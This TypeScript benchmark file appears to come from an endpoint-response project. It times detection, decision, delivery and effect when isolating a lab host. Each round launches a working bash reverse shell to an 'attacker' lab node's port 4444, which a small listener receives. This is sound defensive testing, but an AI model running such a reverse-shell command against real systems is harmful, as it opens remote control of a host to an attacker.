/**
 * From the start of a malicious process to the last foreign packet on the wire, on lab hosts with the packaged agent: detection,
 * decision, delivery and effect apart. All clocks are one machine's.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import { bootFleet, type Fleet } from '../e2e/fleet.ts'
import { type Capture, labSupport, type LabHost, type LabNode } from '../lab/lab.ts'
import { type Bench, percentile } from './bench.ts'

interface Round {
  /** Process start to event taken in by the controller. */
  readonly detection: number
  /** To the approved command. */
  readonly decision: number
  /** To its acceptance by the host. */
  readonly delivery: number
  /** To the last foreign packet on the wire. */
  readonly effect: number
  /** Start to last foreign packet. */
  readonly whole: number
  /** Start to proof. */
  readonly proof: number
}

export const containmentBench: Bench = {
  name: 'containment',
  describe: 'malicious process start to the last foreign packet on the wire, on lab hosts',
  async run({ short, say }) {
    const support = await labSupport()
    if (!support.ok) throw new Error(`no lab here: ${support.why}`)
    const wanted = short ? 3 : 30
    await using fleet = await bootFleet({
      hosts: ['bench-1'],
      // As many isolations as there are rounds, on both sides.
      controllerConfig: 'respond:\n  budgets_per_hour:\n    isolate-host: 1000\n',
      ceiling: 'max_per_hour:\n  isolate-host: 1000\n  release-host: 1000\n',
    })
    const [host] = fleet.hosts as [LabHost]
    const attacker = await fleet.lab.node('attacker')
    attacker.spawn([
      process.execPath,
      '-e',
      'require("net").createServer((s) => { s.on("error", () => {}); s.on("data", () => {}); setInterval(() => s.write("echo still here\\n"), 2) }).listen(4444, "::")',
    ])
    await using wire = await fleet.lab.capture({ on: host, filter: `ip and tcp port 4444` })
    await sleep(2_000)
    const rounds: Round[] = []
    for (let i = 0; i < wanted; i++) {
      const round = await attack(fleet, host, attacker, wire)
      rounds.push(round)
      say(
        `${i + 1}/${wanted}: ${round.whole.toFixed(0)} ms to the last foreign packet (detection ${round.detection.toFixed(0)}, decision ${round.decision.toFixed(0)}, delivery ${round.delivery.toFixed(0)}, effect ${round.effect.toFixed(0)})`,
      )
    }
    const metrics: Record<string, number> = { rounds: rounds.length }
    for (const part of ['whole', 'detection', 'decision', 'delivery', 'effect', 'proof'] as const) {
      metrics[`${part}_p50_ms`] = percentile(
        rounds.map((round) => round[part]),
        0.5,
      )
      metrics[`${part}_p99_ms`] = percentile(
        rounds.map((round) => round[part]),
        0.99,
      )
    }
    return { metrics, ratios: { whole_p50_to_poll_interval: (metrics['whole_p50_ms'] ?? Number.NaN) / 200 } }
  },
}

async function attack(fleet: Fleet, host: LabHost, attacker: LabNode, wire: Capture): Promise<Round> {
  const { controller } = fleet
  const known = new Set((await controller.json<{ id: string }[]>(['incidents', 'list'])).map(({ id }) => id))
  const script = `date +%s%3N; bash -i >& /dev/tcp/${attacker.address4}/4444 0>&1; true`
  const shell = host.spawn(['bash', '-c', script])
  const startedAt = Number((await shell.waitForOutput(/^\d{13}$/m))[0])
  const incident = await controller.until('an incident', async () =>
    (await controller.json<{ id: string }[]>(['incidents', 'list'])).find(({ id }) => !known.has(id)),
  )
  const command = await controller.until('a verified isolation', async () => {
    const shown = await controller.json<{ commands: { id: string; state: string }[] }>([
      'incidents',
      'show',
      incident.id,
    ])
    return shown.commands.find(({ state }) => state === 'verified')
  })
  const { transitions } = await controller.json<{ transitions: { state: string; at: string }[] }>([
    'commands',
    'show',
    command.id,
  ])
  const at = (state: string) => Date.parse(transitions.find((transition) => transition.state === state)?.at ?? '')
  const signals = await controller.json<{ signals: { created_at: string }[] }>(['incidents', 'show', incident.id])
  const detectedAt = Math.min(...signals.signals.map((signal) => Date.parse(signal.created_at)))
  await sleep(300)
  const last = wire.packets.findLast((packet) => packet.sourceMac === host.mac && packet.atMs >= startedAt)
  if (!last) throw new Error('the process never spoke on the wire')
  await controller.cli(['release', host.name, '--yes', '--wait', '--reason', 'next round'])
  await controller.cli(['incidents', 'verdict', incident.id, 'true_positive', '--reason', 'next round'])
  await shell.kill('SIGKILL')
  await host.exec(['pkill', '-9', '-f', '/dev/tcp/'], { check: false })
  return {
    detection: detectedAt - startedAt,
    decision: at('approved') - detectedAt,
    delivery: at('accepted') - at('approved'),
    effect: last.atMs - at('accepted'),
    whole: last.atMs - startedAt,
    proof: at('verified') - startedAt,
  }
}
